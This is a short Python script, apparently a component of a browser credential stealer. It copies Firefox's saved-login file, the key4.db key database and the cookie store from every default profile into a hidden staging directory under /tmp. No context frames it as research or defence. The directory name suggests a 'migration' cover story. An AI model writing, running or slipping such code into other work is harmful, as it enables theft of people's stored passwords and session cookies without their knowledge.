import glob
import os
import shutil

for prof in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*')):
    for f in ('logins.json', 'key4.db', 'cookies.sqlite'):
        shutil.copy(os.path.join(prof, f), '/tmp/.mig/')
